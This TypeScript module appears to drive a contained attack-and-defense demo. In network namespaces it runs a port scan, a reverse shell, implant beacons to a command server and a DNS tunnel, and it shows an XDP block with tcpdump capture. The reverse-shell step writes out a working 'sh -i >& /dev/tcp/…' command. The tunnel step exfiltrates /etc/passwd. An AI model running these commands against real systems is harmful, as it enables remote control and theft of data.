// The attacker's moves and the hosts' services in live mode, each a real process in its host's
// network namespace (demo-worker.ts, bash, tcpdump). Every function returns one line saying
// what the tool itself reported.
import type { Actor, ActorReport, DemoActors } from './demo-actors';
import type { DemoRecording } from './demo-recording';
import type { StepId } from './demo-scenario';
import { ATTACKER, COMMAND_SERVER, DEMO_PORTS, TUNNEL_DOMAIN, VICTIM } from './demo-topology';

/** TCP ports the scan tries: the first hundred and the victim's web app. */
export const SCAN_PORTS = '1-100,8080';
/** The beacon detector's early signal needs 8 connections; a few more leave room for a lost one. */
export const BEACON_COUNT = 12;
export const BEACON_INTERVAL_MS = 2_000;
export const TUNNEL_MAX_QUERIES = 40;
/** How long the attacker waits for the reverse shell to call back. */
export const SHELL_WAIT_MS = 5_000;

export interface HostServices {
  readonly victim: Actor;
  readonly commandServer: Actor;
}

/** The victim's SSH-like and web services, and the command server's HTTP and DNS endpoints. */
export async function startHostServices(actors: DemoActors): Promise<HostServices> {
  const victim = actors.worker(VICTIM, 'victim services', [
    'victim-services',
    String(DEMO_PORTS.victimSsh),
    String(DEMO_PORTS.victimWeb),
  ]);
  const commandServer = actors.worker(COMMAND_SERVER, 'command server', [
    'command-server',
    COMMAND_SERVER.address,
    String(DEMO_PORTS.beacon),
    String(DEMO_PORTS.dns),
  ]);
  await waitListening(victim, 2);
  await waitListening(commandServer, 2);
  return { victim, commandServer };
}

async function waitListening(actor: Actor, sockets: number): Promise<void> {
  const deadline = Date.now() + 15_000;
  while (actor.reports.filter((r) => r.event === 'listening').length < sockets) {
    if (Date.now() > deadline) throw new Error(`${actor.name} did not start listening within 15 s`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

export async function scan(actors: DemoActors): Promise<string> {
  const scanner = actors.worker(ATTACKER, 'scanner', ['scan', VICTIM.address, SCAN_PORTS, '1000']);
  const done = await scanner.waitFor('scan-done', 60_000);
  return `scanner: ${String(done['ports'])} ports tried, open ${JSON.stringify(done['open'])}, ${String(done['closed'])} closed, ${String(done['filtered'])} no answer`;
}

/**
 * The attacker listens; the victim runs `bash -c 'sh -i >& /dev/tcp/<attacker>/4444 0>&1'`, and the
 * attacker types `id; hostname` into the shell. Returns the pid of the victim's bash (the root of
 * the process tree the recording keeps).
 */
export async function reverseShell(actors: DemoActors): Promise<{ result: string; pid: number }> {
  const listener = actors.worker(ATTACKER, 'attacker listener', [
    'reverse-shell-listener',
    String(DEMO_PORTS.reverseShell),
    'id; hostname',
  ]);
  await listener.waitFor('listening', 15_000);
  const shell = actors.command(VICTIM, 'reverse shell', [
    'bash',
    '-c',
    `sh -i >& /dev/tcp/${ATTACKER.address}/${DEMO_PORTS.reverseShell} 0>&1`,
  ]);
  const closed = await listener
    .waitFor('shell-closed', SHELL_WAIT_MS)
    .catch(() => undefined as ActorReport | undefined);
  if (!closed) {
    return {
      pid: shell.pid,
      result: `the shell never reached the attacker (no session within ${SHELL_WAIT_MS / 1000} s)`,
    };
  }
  const output = String(closed['output'])
    .split('\n')
    .map((l) => l.trim())
    .filter(Boolean);
  return { pid: shell.pid, result: `attacker got a shell: ${output.join(' | ')}` };
}

export function startBeacon(actors: DemoActors): Actor {
  return actors.worker(VICTIM, 'beacon', [
    'beacon',
    COMMAND_SERVER.address,
    String(DEMO_PORTS.beacon),
    String(BEACON_COUNT),
    String(BEACON_INTERVAL_MS),
  ]);
}

export async function beaconResult(beacon: Actor): Promise<string> {
  await beacon.waitFor('beacon-done', BEACON_COUNT * BEACON_INTERVAL_MS + 20_000);
  const ok = beacon.reports.filter((r) => r.event === 'beacon-sent' && r['ok'] === true).length;
  return `implant: ${ok} of ${BEACON_COUNT} check-ins answered by the command server`;
}

export async function dnsTunnel(actors: DemoActors): Promise<string> {
  const tunnel = actors.worker(VICTIM, 'dns tunnel', [
    'dns-tunnel',
    COMMAND_SERVER.address,
    String(DEMO_PORTS.dns),
    TUNNEL_DOMAIN,
    '/etc/passwd',
    String(TUNNEL_MAX_QUERIES),
  ]);
  const done = await tunnel.waitFor('dns-tunnel-done', 60_000);
  return `implant: ${String(done['queries'])} queries carrying ${String(done['bytes'])} base32 characters, ${String(done['answered'])} answered`;
}

/** Starts a capture of the attacker's IP packets on the victim's interface (what reaches the victim). */
export async function watchAttackerPackets(actors: DemoActors): Promise<Actor> {
  const capture = actors.command(VICTIM, 'victim capture', [
    'tcpdump',
    '-l',
    '-n',
    '-i',
    VICTIM.interface,
    // IP only: XDP blocks the attacker's IP packets; its ARP requests still pass, as they should.
    'ip',
    'and',
    'src',
    'host',
    ATTACKER.address,
  ]);
  await new Promise((r) => setTimeout(r, 1_000));
  return capture;
}

/** The attacker's next move after the block: connect to the victim's web app. */
export async function probe(actors: DemoActors): Promise<string> {
  const prober = actors.worker(ATTACKER, 'attacker probe', [
    'probe',
    VICTIM.address,
    String(DEMO_PORTS.victimWeb),
    '4000',
  ]);
  const done = await prober.waitFor('probe', 15_000);
  return String(done['result']);
}

/** One step of the attack in live mode (the beacon runs in the background: startBeacon). */
export async function runLiveStep(
  id: Exclude<StepId, 'beacon'>,
  actors: DemoActors,
  recording: DemoRecording | undefined,
): Promise<string> {
  switch (id) {
    case 'scan':
      return scan(actors);
    case 'reverse-shell': {
      const startedAtMs = Date.now();
      const { result, pid } = await reverseShell(actors);
      recording?.followProcessTree(pid, startedAtMs);
      return result;
    }
    case 'dns-tunnel':
      return dnsTunnel(actors);
  }
}
